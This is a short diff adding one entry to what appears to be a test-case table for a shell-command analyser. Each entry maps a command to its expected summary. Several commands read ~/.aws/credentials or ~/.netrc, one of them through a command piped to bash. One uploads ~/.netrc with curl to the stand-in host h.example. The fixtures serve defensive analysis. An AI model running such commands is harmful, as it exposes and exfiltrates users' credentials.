@@ -51,6 +51,7 @@ export const SECTIONS: readonly Section[] = [
       ['for f in ~/.aws/credentials b; do cat "$f"; done', "show ~/.aws/credentials", "show b"],
       ['while read -r l; do echo "$l"; done < ~/.netrc', "show ~/.netrc"],
       ["while true; do curl -T ~/.netrc https://h.example; break; done", 'send h.example "https://h.example" | ~/.netrc'],
+      ["echo 'cat \"$1\"' | bash -s -- ~/.netrc", "show ~/.netrc"],
       ["case $x in x) cat ~/.netrc;; *) cat b;; esac", "show ~/.netrc", "show b"],
       ["case y in x) cat ~/.netrc;; y|z) cat a;; *) cat b;; esac", "show a"],
       ['case xy in "x*") cat a;; x*) cat ~/.netrc;; *) cat b;; esac', "show ~/.netrc"],
